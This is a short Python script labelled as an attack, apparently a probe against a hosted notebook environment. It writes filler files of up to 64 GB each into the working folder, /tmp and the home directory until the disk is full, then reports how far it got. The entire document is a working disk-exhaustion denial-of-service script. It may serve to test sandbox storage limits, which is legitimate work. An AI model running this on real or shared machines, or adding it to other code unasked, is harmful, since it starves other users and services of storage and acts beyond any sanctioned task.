# attack: exhausting the scratch disk
# A blank notebook writes until the disk is full, in its folder and in /tmp.
import os

chunk = b"x" * (1 << 20)
for folder in (".", "/tmp", os.path.expanduser("~")):
    written = 0
    try:
        with open(os.path.join(folder, "filler.bin"), "wb") as handle:
            while written < (64 << 30):
                handle.write(chunk)
                written += len(chunk)
    except OSError as err:
        print(folder, "stopped after", written >> 20, "MB:", type(err).__name__)
